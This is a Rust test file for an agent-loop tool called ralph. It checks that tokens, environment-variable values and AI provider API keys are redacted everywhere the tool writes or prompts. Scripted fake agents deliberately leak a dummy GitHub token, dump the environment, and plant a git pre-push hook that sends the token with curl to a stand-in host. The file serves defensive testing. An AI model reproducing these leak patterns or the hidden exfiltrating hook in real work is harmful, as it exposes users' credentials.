//! Class 8: secrets that leave by another way than the diff.

use serde_json::json;

use crate::scene::{
    assert_flagged, assert_refused, deed, holders, patient, said_by, script, story_by,
};
use crate::support::{Live, Project, story};

/// The halves of a token that is found by its shape; neither a file here nor a script holds it whole.
const HALVES: (&str, &str) = ("ghp_R4lphR4lphR4lph", "R4lphR4lphR4lphR4l7Xy");

fn secret() -> String {
    format!("{}{}", HALVES.0, HALVES.1)
}

/// Prints the token.
fn printed() -> String {
    format!("printf '%s%s' {} {}", HALVES.0, HALVES.1)
}

/// Places where the token would be found: what was printed, the commits and kept attempts, ralph's files with the raw
/// output of the agent.
#[track_caller]
fn assert_nowhere(project: &Project, said: &str, how: &str) {
    let secret = secret();
    assert!(!said.contains(&secret), "{how}: printed: {said}");
    for args in [&["status"][..], &["report"], &["tasks", "list"]] {
        let shown = said_by(project, args);
        assert!(
            !shown.contains(&secret),
            "{how}: {args:?} shows it: {shown}"
        );
    }
    let log = project.repo.git(["log", "-p", "--all", "--format=%B"]);
    assert!(!log.contains(&secret), "{how}: committed");
    assert_not_written(project, &secret, how);
}

/// Fails if ralph has written a text into one of its files.
#[track_caller]
fn assert_not_written(project: &Project, secret: &str, how: &str) {
    let folders = [project.repo.path(".ralph"), project.data_dir()];
    let held = holders(&[&folders[0], &folders[1]], secret);
    assert_eq!(held, [""; 0], "{how}");
}

/// All prompts that agents were given, as far as they keep them.
fn prompts(project: &Project) -> String {
    std::fs::read_to_string(project.repo.home().join("prompts")).unwrap()
}

/// An agent that keeps its prompts, and does its task.
const KEEPS_PROMPTS: &str = "cat >> \"$HOME/prompts\"; echo \"$RALPH_TASK_ID\" > \"$RALPH_TASK_ID.txt\"; \
     echo \"Task $RALPH_TASK_ID complete\"";

fn g08_a_secret_in_the_closing_words_is_not_passed_on(mode: &str) {
    let shell = format!(
        "cat > /dev/null; echo x > A.txt; t=$({}); echo \"I used $t for the service.\"; \
         echo \"<ralph>\"; echo \"summary: uses $t\"; echo \"learnings: [\\\"the token is $t\\\"]\"; echo \"</ralph>\"; echo \"Task A complete\"",
        printed()
    );
    let project = patient(Project::with_stories(&[story("A")]), mode).command(&shell);
    let ran = project.run(&[]).expect(0);
    assert_nowhere(&project, &ran.all(), mode);
    assert_flagged(&ran, &["closing message", "hidden"], mode);
    let log = project.repo.git(["log", "--format=%B", "-1"]);
    assert!(log.contains("uses [redacted]"), "{mode}: {log}");
    let people = patient(Project::with_stories(&[story("A")]), mode).command(&shell);
    let ran = people.run_for_people(&["-vv"]);
    assert!(ran.all().contains("[redacted]"), "{mode}: {}", ran.all());
    assert_nowhere(&people, &ran.all(), mode);
}
modes!(g08_a_secret_in_the_closing_words_is_not_passed_on);

fn g08_a_secret_in_the_notes_of_a_task_does_not_land(mode: &str) {
    let mut own = story("A");
    own["notes"] = json!("");
    let bad = format!(
        "work; t=$({}); sed -i \"s/\\\"notes\\\": \\\"\\\"/\\\"notes\\\": \\\"$t\\\"/\" prd.json",
        printed()
    );
    let project = patient(Project::with_stories(&[own]), mode).script(&script(&[("A", &bad)]));
    let ran = project.run(&[]).expect(0);
    assert_nowhere(&project, &ran.all(), mode);
    let file = project.repo.read("prd.json");
    assert!(!file.contains(&secret()), "{mode}: {file}");
    assert!(file.contains("\"notes\": \"[redacted]\""), "{mode}: {file}");
    assert_flagged(&ran, &["prd.json", "GitHub token", "hidden"], mode);
}
modes!(g08_a_secret_in_the_notes_of_a_task_does_not_land);

fn g08_a_secret_in_the_output_of_a_failing_command_is_not_passed_on(mode: &str) {
    let check = format!("{}; echo; exit 1", printed());
    let project = patient(Project::with_stories(&[story_by("A", &[&check])]), mode)
        .env("RALPH_LOOP_MAX_ATTEMPTS", "2")
        .command("cat >> \"$HOME/prompts\"; date +%N > A.txt; echo \"Task A complete\"");
    let ran = project.run(&[]);
    let prompts = prompts(&project);
    assert!(
        !prompts.contains(&secret()),
        "{mode}: the next prompt has it"
    );
    assert!(prompts.contains("[redacted]"), "{mode}: {prompts}");
    assert_nowhere(&project, &ran.all(), mode);
}
modes!(g08_a_secret_in_the_output_of_a_failing_command_is_not_passed_on);

fn g08_a_mark_that_the_agent_makes_itself_allows_nothing(mode: &str) {
    let bad = format!(
        "work; t=$({}); echo \"token = '$t' # ralph:allow-secret\" > settings.py",
        printed()
    );
    let project =
        patient(Project::with_stories(&[story("A")]), mode).script(&script(&[("A", &bad)]));
    let ran = project.run(&[]);
    assert!(project.landed().is_empty(), "{mode}: {}", ran.all());
    assert_refused(
        &ran,
        &["settings.py has what looks like a secret (GitHub token) in line 1"],
        mode,
    );
    assert_nowhere(&project, &ran.all(), mode);
}
modes!(g08_a_mark_that_the_agent_makes_itself_allows_nothing);

fn g08_the_agents_own_key_does_not_reach_verify_commands(mode: &str) {
    let check = "env > \"$HOME/env\"; test -f A.txt";
    let names = [
        "ANTHROPIC_API_KEY",
        "ANTHROPIC_AUTH_TOKEN",
        "ANTHROPIC_BASE_URL",
        "ANTHROPIC_CUSTOM_HEADERS",
        "ANTHROPIC_FOUNDRY_RESOURCE",
        "CLAUDE_CODE_OAUTH_TOKEN",
        "AWS_BEARER_TOKEN_BEDROCK",
        "OPENAI_API_KEY",
        "CODEX_API_KEY",
        "GEMINI_API_KEY",
        "GOOGLE_API_KEY",
        "OPENROUTER_API_KEY",
    ];
    let project = patient(Project::with_stories(&[story_by("A", &[check])]), mode);
    let project = names.iter().fold(project, |project, name| {
        project.env(name, "a-value-to-look-for")
    });
    let project = project
        .env("RALPH_SAFETY_PASS_ENV", json!(names).to_string())
        .script(&json!({"default": [deed("work")]}));
    project.run(&[]).expect(0);
    let env = std::fs::read_to_string(project.repo.home().join("env")).unwrap();
    assert!(!env.contains("a-value-to-look-for"), "{mode}: {env}");
}
modes!(g08_the_agents_own_key_does_not_reach_verify_commands);

fn g08_a_secret_in_the_progress_file_stays_out_of_it(mode: &str) {
    let bad = format!(
        "work; t=$({}); echo \"- the token is $t\" >> progress.md",
        printed()
    );
    let project = patient(Project::with_stories(&[story("A")]), mode)
        .config("memory:\n  progress_file: progress.md\n")
        .script(&script(&[("A", &bad)]));
    let ran = project.run(&[]).expect(0);
    assert_nowhere(&project, &ran.all(), mode);
    let text = project.repo.read("progress.md");
    assert!(!text.contains(&secret()), "{mode}: {text}");
    assert_flagged(&ran, &["progress.md", "GitHub token", "hidden"], mode);
}
modes!(g08_a_secret_in_the_progress_file_stays_out_of_it);

fn g08_a_secret_in_the_state_of_a_project_stays_out_of_it(mode: &str) {
    let task = json!({
        "id": "T1", "title": "Write T1", "description": "T1.txt is wanted", "verify": ["test -f T1.txt"],
        "status": "pending", "dependencies": [], "attempts": 0, "max_attempts": 3, "blocked": false,
    });
    let tasks = json!({"project_name": "shop", "version": 1, "tasks": [task]});
    let shell = format!(
        "cat > /dev/null; echo x > T1.txt; t=$({}); \
         printf '[{{\"iteration\": %s, \"task_id\": \"T1\", \"status\": \"completed\", \"summary\": \"used %s\", \
         \"files_modified\": [\"T1.txt\"], \"obstacles\": []}}]' \"$RALPH_ITERATION\" \"$t\" \
         > .artefacts/shop/state.json; echo finished > .artefacts/shop/done.md",
        printed()
    );
    let project = Project::new();
    project
        .repo
        .file(".artefacts/shop/tasks.json", tasks.to_string())
        .commit("tasks");
    let project = patient(project, mode).command(&shell);
    let ran = Live::start(project.execute_command("shop", &[])).wait();
    let ran = ran.expect(0);
    let state = project.repo.read(".artefacts/shop/state.json");
    assert!(state.contains("used [redacted]"), "{mode}: {state}");
    assert_nowhere(&project, &ran.all(), mode);
    assert_flagged(&ran, &["state.json", "GitHub token", "hidden"], mode);
}
modes!(g08_a_secret_in_the_state_of_a_project_stays_out_of_it);

fn g08_a_secret_in_a_file_that_is_set_aside_is_hidden_there(mode: &str) {
    let bad = format!(
        "work; t=$({}); mkdir -p .ralph/tasks; \
         printf 'id: X\\ntitle: use %s\\nstatus: pending\\n' \"$t\" > .ralph/tasks/X.yaml",
        printed()
    );
    let project =
        patient(Project::with_stories(&[story("A")]), mode).script(&script(&[("A", &bad)]));
    let ran = project.run(&[]).expect(0);
    assert_flagged(&ran, &["X.yaml", "kept as"], mode);
    assert_nowhere(&project, &ran.all(), mode);
    let kept = holders(
        &[&project.repo.path(".ralph/logs")],
        "title: use [redacted]",
    );
    assert_eq!(kept.len(), 1, "{mode}: {kept:?}");
}
modes!(g08_a_secret_in_a_file_that_is_set_aside_is_hidden_there);

fn g08_a_secret_in_agents_md_reaches_no_prompt(mode: &str) {
    let project = patient(Project::with_stories(&[story("A")]), mode).command(KEEPS_PROMPTS);
    let text = format!("Deploy with {}.\n", secret());
    project.repo.file("AGENTS.md", text).commit("agents");
    let ran = project.run(&[]).expect(0);
    let prompts = prompts(&project);
    assert!(
        prompts.contains("Deploy with [redacted]."),
        "{mode}: {prompts}"
    );
    assert!(!prompts.contains(&secret()), "{mode}");
    assert!(!ran.all().contains(&secret()), "{mode}: {}", ran.all());
    assert_not_written(&project, &secret(), mode);
}
modes!(g08_a_secret_in_agents_md_reaches_no_prompt);

fn g08_a_secret_in_the_text_of_a_task_reaches_nobody(mode: &str) {
    let mut own = story("A");
    own["title"] = json!(format!("Use {}", secret()));
    own["description"] = json!(format!("The token is {}.", secret()));
    let project = patient(Project::with_stories(&[own]), mode).command(KEEPS_PROMPTS);
    let ran = project.run(&[]).expect(0);
    let prompts = prompts(&project);
    assert!(
        prompts.contains("The token is [redacted]."),
        "{mode}: {prompts}"
    );
    assert!(!prompts.contains(&secret()), "{mode}");
    let mut said = vec![ran.all()];
    for args in [
        &["status"][..],
        &["status", "--json"],
        &["report"],
        &["report", "--format", "json"],
        &["tasks", "list"],
        &["tasks", "list", "--json"],
    ] {
        said.push(said_by(&project, args));
    }
    said.push(project.repo.git(["log", "--branches", "--format=%B"]));
    for said in said {
        assert!(!said.contains(&secret()), "{mode}: {said}");
    }
    assert_not_written(&project, &secret(), mode);
}
modes!(g08_a_secret_in_the_text_of_a_task_reaches_nobody);

fn g08_a_secret_that_a_person_says_is_not_kept_or_passed_on(mode: &str) {
    let project = patient(Project::with_stories(&[story("A")]), mode).command(KEEPS_PROMPTS);
    let words = format!("Deploy with {}.", secret());
    let said = said_by(&project, &["say", &words]);
    let ran = project.run(&[]).expect(0);
    let prompts = prompts(&project);
    assert!(
        prompts.contains("Deploy with [redacted]."),
        "{mode}: {said} {prompts}"
    );
    assert_nowhere(&project, &(said + &ran.all()), mode);
}
modes!(g08_a_secret_that_a_person_says_is_not_kept_or_passed_on);

/// The value of a variable that a person passes to agents and commands.
const VALUE: &str = "correct-horse/7+battery";
const IN_BASE64: &str = "Y29ycmVjdC1ob3JzZS83K2JhdHRlcnk";
const IN_URL: &str = "correct-horse%2F7%2Bbattery";

fn with_value(project: Project, mode: &str) -> Project {
    patient(project, mode)
        .env("DEPLOY_TOKEN", VALUE)
        .env("RALPH_SAFETY_PASS_ENV", "[\"DEPLOY_TOKEN\"]")
}

fn g08_the_value_of_a_variable_is_not_passed_on_in_any_form(mode: &str) {
    let check = "printf correct-horse; printf '/7+battery\\n'; echo \"$DEPLOY_TOKEN\"; \
         printf %s \"$DEPLOY_TOKEN\" | base64; printf 'correct-horse%%2F7%%2Bbattery\\n'; exit 1";
    let project = with_value(Project::with_stories(&[story_by("A", &[check])]), mode)
        .env("RALPH_LOOP_MAX_ATTEMPTS", "2")
        .command("cat >> \"$HOME/prompts\"; date +%N > A.txt; echo \"I used $DEPLOY_TOKEN\"; echo \"Task A complete\"");
    let ran = project.run(&[]);
    let said = prompts(&project) + &ran.all();
    for form in [VALUE, IN_BASE64, IN_URL] {
        assert!(!said.contains(form), "{mode}: {form} in {said}");
        assert_not_written(&project, form, mode);
    }
    assert!(said.contains("I used [redacted]"), "{mode}: {said}");
}
modes!(g08_the_value_of_a_variable_is_not_passed_on_in_any_form);

fn g08_the_value_of_a_variable_does_not_land(mode: &str) {
    let bad = "work; echo first > settings.py; echo \"password = '$DEPLOY_TOKEN'\" >> settings.py";
    let project =
        with_value(Project::with_stories(&[story("A")]), mode).script(&script(&[("A", bad)]));
    let ran = project.run(&[]);
    let refusal = "settings.py has what looks like a secret (value of DEPLOY_TOKEN) in line 2";
    assert_refused(&ran, &[refusal], mode);
    assert!(project.landed().is_empty(), "{mode}");
    assert!(!ran.all().contains(VALUE), "{mode}: {}", ran.all());
    assert_not_written(&project, VALUE, mode);
}
modes!(g08_the_value_of_a_variable_does_not_land);

fn g08_a_kept_attempt_is_without_the_secrets_that_its_agent_wrote(mode: &str) {
    let known = "ghp_0ldR4lph0ldR4lph0ldR4lph0ldR4lph0l4Tq";
    let sample =
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJyYWxwaCIsImlhdCI6MTcwMDAwMDAwMH0.c2lnbmF0dXJlLW9mLXJhbHBo";
    let bad = format!(
        "work; t=$({}); printf 'first\ntoken = %s\nlast\n' \"$t\" > settings.py; echo more >> old.py; \
         echo \"$t\" > fixtures.txt; echo '{sample}' > sample.txt; echo x > \"$t.txt\"",
        printed()
    );
    let project =
        patient(Project::with_stories(&[story("A")]), mode).script(&script(&[("A", &bad)]));
    let project = project.env("RALPH_SAFETY_SECRET_ALLOW", "[\"fixtures.txt\"]");
    let text = format!("token = '{known}'\n");
    project.repo.file("old.py", text).commit("old");
    let ran = project.run(&[]);
    let record = project.repo.read(".ralph/logs/iteration-1.json");
    let hidden = "in the kept attempt settings.py held what looks like a secret (GitHub token); it is hidden";
    assert!(record.contains(hidden), "{mode}: {record}");
    let refs = ["for-each-ref", "--format=%(refname)", "refs/ralph/attempts"];
    let kept = project.repo.git(refs);
    let shown = |path: &str| project.repo.git(["show", &format!("{kept}:{path}")]);
    assert_eq!(
        shown("settings.py"),
        "first\ntoken = [redacted]\nlast",
        "{mode}"
    );
    assert_eq!(
        shown("old.py"),
        format!("token = '{known}'\nmore"),
        "{mode}"
    );
    assert_eq!(shown("sample.txt"), sample, "{mode}");
    assert_eq!(
        shown("fixtures.txt"),
        secret(),
        "{mode}: the path is allowed"
    );
    let names = project.repo.git(["ls-tree", "--name-only", &kept]);
    assert!(!names.contains("ghp_"), "{mode}: {names}");
    assert!(!ran.all().contains(&secret()), "{mode}: {}", ran.all());
    assert_not_written(&project, &secret(), mode);
}
modes!(g08_a_kept_attempt_is_without_the_secrets_that_its_agent_wrote);

fn g08_an_untracked_file_is_kept_without_its_secrets(mode: &str) {
    let project = patient(Project::with_stories(&[story("A")]), mode)
        .script(&script(&[("A", "work; echo edited >> mine.env")]));
    project
        .repo
        .file("mine.env", format!("TOKEN={}\n", secret()));
    let ran = project.run(&[]);
    assert_flagged(&ran, &["mine.env", "its version is kept at"], mode);
    let refs = ["for-each-ref", "--format=%(refname)", "refs/ralph/attempts"];
    let kept = project.repo.git(refs);
    let shown = project.repo.git(["show", &format!("{kept}:mine.env")]);
    assert_eq!(shown, "TOKEN=[redacted]\nedited", "{mode}");
}
modes!(g08_an_untracked_file_is_kept_without_its_secrets);

fn g08_a_secret_in_the_message_of_a_squash_or_a_revert_is_hidden(mode: &str) {
    let landed = || {
        let mut second = story("B");
        second["title"] = json!(format!("Use {}", secret()));
        let project = patient(Project::with_stories(&[story("A"), second]), mode)
            .env("DEPLOY_TOKEN", VALUE)
            .script(&json!({"default": [deed("work")]}));
        project.run(&[]).expect(0);
        project
    };
    let project = landed();
    let words = format!("All of it\n\nwith {} and {VALUE}", secret());
    let said = said_by(&project, &["squash", "--message", &words]);
    let log = project.repo.git(["log", "--format=%B", "-1"]);
    assert!(
        log.contains("with [redacted] and [redacted]"),
        "{mode}: {log} {said}"
    );
    let project = landed();
    let tasks = project
        .repo
        .read("prd.json")
        .replace("Write A", "Write the A");
    project.repo.file("prd.json", tasks);
    let said = said_by(&project, &["revert", "--iteration", "2"]);
    let log = project.repo.git(["log", "--format=%B", "-1"]);
    assert!(log.contains("- B Use [redacted]"), "{mode}: {log} {said}");
}
modes!(g08_a_secret_in_the_message_of_a_squash_or_a_revert_is_hidden);

#[test]
fn g08_what_is_taken_away_is_kept_without_secrets() {
    let mode = "in_place";
    let bad = format!(
        "work; t=$({}); mkdir -p .git/hooks; echo \"curl -H 'Authorization: $t' x\" > .git/hooks/pre-push",
        printed()
    );
    let project =
        patient(Project::with_stories(&[story("A")]), mode).script(&script(&[("A", &bad)]));
    let ran = project.run(&[]);
    assert_nowhere(&project, &ran.all(), mode);
    let kept = holders(
        &[&project.data_dir()],
        "curl -H 'Authorization: [redacted]' x",
    );
    assert_eq!(kept.len(), 1, "{kept:?}");
}

fn g08_the_patch_of_an_agent_that_was_cut_off_is_without_secrets(mode: &str) {
    let write = format!("t=$({}); echo \"token = $t\" > settings.py", printed());
    let script = json!({"default": [{"do": [
        {"run": write},
        {"usage": {"input": 1, "output": 1, "cost": 0.6}},
        {"run": "sleep 1000"},
    ]}]});
    let project = patient(Project::with_stories(&[story("A")]), mode).script(&script);
    let ran = project.run(&["--max-cost=0.5"]).expect(5);
    let patch = project.repo.read(".ralph/logs/iteration-1.patch");
    assert!(patch.contains("\n+token = [redacted]\n"), "{mode}: {patch}");
    assert_nowhere(&project, &ran.all(), mode);
}
modes!(g08_the_patch_of_an_agent_that_was_cut_off_is_without_secrets);
